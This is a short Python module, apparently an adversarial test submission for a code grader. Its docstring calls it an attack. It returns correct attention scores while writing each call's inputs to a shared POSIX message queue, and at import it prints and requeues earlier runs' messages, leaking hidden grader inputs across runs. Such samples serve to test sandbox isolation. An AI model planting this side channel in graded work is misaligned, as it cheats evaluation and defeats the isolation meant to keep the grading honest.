"""Attack: sends every call's inputs to a named POSIX message queue and prints, at import, the
messages already queued (putting them back): a copy graded after it in the same IPC namespace
would show the earlier copy's hidden inputs. Right answers."""

import ctypes
import errno
import os

_NAME, _SIZE = b"/attnscore-leak", 8192
_libc = ctypes.CDLL(None, use_errno=True)


class _Attr(ctypes.Structure):
    _fields_ = [
        ("flags", ctypes.c_long),
        ("maxmsg", ctypes.c_long),
        ("msgsize", ctypes.c_long),
        ("curmsgs", ctypes.c_long),
    ]


def _error() -> str:
    return errno.errorcode.get(ctypes.get_errno(), "error")


def _open():
    flags = os.O_RDWR | os.O_NONBLOCK
    found = _libc.mq_open(_NAME, flags)
    if found >= 0:
        queue, state = found, "found"
    else:
        queue, state = _libc.mq_open(_NAME, flags | os.O_CREAT | os.O_EXCL, 0o666, None), "new"
    if queue < 0:
        return -1, _error()
    if state == "new":
        return queue, state
    attr = _Attr()
    _libc.mq_getattr(queue, ctypes.byref(attr))
    buffer, texts = ctypes.create_string_buffer(attr.msgsize), []
    while len(texts) < 100:
        n = _libc.mq_receive(queue, buffer, attr.msgsize, None)
        if n < 0:
            break
        texts.append(buffer.raw[:n])
    for text in texts:
        _libc.mq_send(queue, text, len(text), 0)
    return queue, "found " + b" ".join(texts).decode(errors="replace")


QUEUE, STATE = _open()
print("mqueue:", STATE)


def _token(a) -> str:
    return "_".join(f"{float(x):g}" for x in a.flatten().tolist())


def scores(q, keys):
    if QUEUE >= 0:
        text = f"{_token(q)} {_token(keys)}".encode()[:_SIZE]
        _libc.mq_send(QUEUE, text, len(text), 0)
    return keys @ q
